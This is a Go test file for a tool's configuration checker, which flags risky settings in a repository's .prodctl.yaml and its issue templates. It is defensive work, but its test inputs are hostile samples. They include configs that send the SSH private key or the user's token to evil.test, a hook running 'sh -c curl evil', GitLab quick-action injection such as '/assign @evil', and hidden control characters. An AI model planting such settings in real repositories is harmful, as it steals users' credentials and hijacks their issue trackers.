package config_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// What is unusual is listed by its key or line, and what a team writes is not.
func TestUnusual(t *testing.T) {
	t.Parallel()
	const plain = "version: 1\nhost: known.test\ntrackers: {infrastructure: acme/infrastructure, production: acme/ops/production}\n"
	for name, c := range map[string]struct{ text, template, want string }{
		"nothing":        {plain + "incidents: {template: incident.md}\n", "Ask `@all` in code.\n{record}", ""},
		"another host":   {strings.Replace(plain, "known", "evil", 1), "", "host: https://evil.test gets your token; so far you used https://known.test"},
		"plain http":     {strings.Replace(plain, "known.test", "http://known.test\nallow_http: true", 1), "", "allow_http: anybody on the network"},
		"web_hosts":      {plain + "web_hosts: [evil.test]\n", "", "web_hosts: pages of https://evil.test"},
		"ca_file":        {plain + "ca_file: ca.pem\n", "", "ca_file: whoever made"},
		"ca_file above":  {plain + "ca_file: ../ca.pem\n", "", "is outside of the folder"},
		"token_file":     {plain + "token_file: ~/.ssh/id_ed25519\n", "", "token_file: the content of /home/me/.ssh/id_ed25519 is sent to the host"},
		"gone":           {plain + "ca_file: gone.pem\n", "", "does not exist or cannot be read"},
		"tracker":        {strings.Replace(plain, "acme/ops", "evil", 1), "", "trackers.production: evil/production is not in the group acme"},
		"log":            {plain + "handoff: {log: issue, issue: \"evil/x#1\"}\n", "", "handoff.issue: evil/x is not"},
		"repository":     {plain + "approvals: {repositories: [{project: evil/x}], teams: {production: {users: [me]}}}\n", "", "approvals.repositories: evil/x"},
		"confidential":   {plain + "handoff: {confidential: true}\n", "", "handoff.confidential"},
		"no approval":    {plain + "changes: {approvals: {C1: {count: 0}}}\n", "", "changes.approvals.C1"},
		"quick action":   {plain + "incidents: {template: incident.md}\n", "# {title}\n/assign @evil\n{record}", `incident.md:2: GitLab runs "/assign @evil"`},
		"carriage":       {plain + "incidents: {template: incident.md}\n", "# {title}\r/assign @evil\r{record}", `GitLab runs "/assign @evil"`},
		"mention":        {plain + "changes: {template: incident.md}\n", "Hi @all {record}", "incident.md: mentions @all in every issue"},
		"everybody":      {plain + "locks: [{name: x, kind: soft, reason: \"ask @all\", weekly: {from: sat 01:00, to: sun 01:00}}]\n", "", ".prodctl.yaml:4: mentions @all"},
		"lines":          {plain + "locks:\n- {name: x, kind: soft, weekly: {from: sat 01:00, to: sun 01:00}, reason: \"x\n  /close\"}\n", "", `"/close\"}" looks like a quick action`},
		"hidden":         {plain + "# \u202egnp.evil\n", "", ".prodctl.yaml: contains invisible characters"},
		"hidden there":   {plain + "incidents: {template: incident.md}\n", "{record}\u200b/close", "incident.md: contains invisible characters"},
		"escape":         {plain + "incidents: {template: incident.md}\n", "{record}\x1b[2J", "incident.md: contains invisible characters"},
		"a command":      {plain + "hooks: [{on: [incident.open, handoff.post], command: [sh, -c, 'curl evil']}]\n", "", `hooks[0]: runs "sh -c curl evil" on this machine, which gets titles and messages of issues, after incident.open, handoff.post`},
		"a webhook":      {plain + "hooks: [{on: [incident.open], url: 'https://evil.test/x', confidential: true}]\n", "", "hooks[0]: evil.test gets titles and messages of issues, also of confidential ones, after incident.open"},
		"a variable":     {plain + "hooks: [{on: [incident.open], url_env: PRODCTL_HOOK_X}]\n", "", "hooks[0]: the address in PRODCTL_HOOK_X gets"},
		"no known hosts": {strings.Replace(plain, "known", "new", 1), "", "host: https://new.test gets your token"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			at := newCheckout(t, c.text)
			at.env["HOME"] = "/home/me"
			if c.template != "" {
				at.write(t, "incident.md", c.template)
			}
			cfg, known := at.load(t), []string{"https://known.test", "http://known.test"}
			if name == "no known hosts" {
				known = nil
			}
			marks := strings.Join(cfg.Unusual(cfg.OnDisk(at.getenv), known), "\n")
			if c.want == "" && marks != "" || !strings.Contains(marks, c.want) {
				t.Errorf("got %q, want %q", strings.ReplaceAll(marks, filepath.Dir(at.dir), ""), c.want)
			}
		})
	}
}

// The command of a hook may not be a file of the checkout, which somebody could change later, however the file is named. A configuration that
// the user named is theirs, and so is one in the home folder.
func TestCommandBesideTheConfiguration(t *testing.T) {
	t.Parallel()
	at := newCheckout(t, "version: 1\nhost: known.test\n")
	at.write(t, "hook.sh", "")
	script, outside := filepath.Join(at.dir, "hook.sh"), filepath.Join(filepath.Dir(at.dir), "x")
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(at.dir, link); err != nil {
		t.Fatal(err)
	}
	cfg := at.load(t)
	home := func(string) string { return "/home/me" }
	look := func(name string) (string, error) {
		switch name {
		case "hook.sh":
			return script, nil
		case "linked.sh":
			return filepath.Join(link, "hook.sh"), nil
		}
		return "/usr/bin/" + name, nil
	}
	for _, words := range [][]string{{script}, {"sh", script}, {"hook.sh"}, {"linked.sh"}, {"curl", "--config=" + script}, {"sh", "-c", ". '" + script + "'"},
		{"sh", "-c", "cd " + at.dir + "; ./hook.sh"}, {"sh", "-c", "PATH=" + at.dir + " hook.sh"}, {"make", "-C" + at.dir}} {
		if err := cfg.CheckCommand(words, home, look); err == nil || !strings.HasSuffix(err.Error(), "is beside .prodctl.yaml, where it can change after you trusted that") {
			t.Errorf("%q: %v", words, err)
		}
	}
	own := cfg
	own.Found = false
	for _, err := range []error{
		cfg.CheckCommand([]string{"sh", "-c", "true"}, home, look), cfg.CheckCommand([]string{outside}, home, look),
		cfg.CheckCommand([]string{"sh", "-c", at.dir + "-other/x; " + at.dir + "2/x"}, home, look), own.CheckCommand([]string{script}, home, look),
		cfg.CheckCommand([]string{script}, func(string) string { return at.dir }, look),
	} {
		if err != nil {
			t.Error(err)
		}
	}
	list := func(dirs ...string) string { return strings.Join(dirs, string(filepath.ListSeparator)) }
	path := list("/usr/bin", at.dir, "", ".", filepath.Join(at.dir, "bin"), link, "/bin")
	if got, want := cfg.SafePath(path, home), list("/usr/bin", "/bin"); got != want {
		t.Errorf("PATH is %s", got)
	}
	if got, want := own.SafePath(path, home), list("/usr/bin", at.dir, filepath.Join(at.dir, "bin"), link, "/bin"); got != want {
		t.Errorf("PATH is %s", got)
	}
}
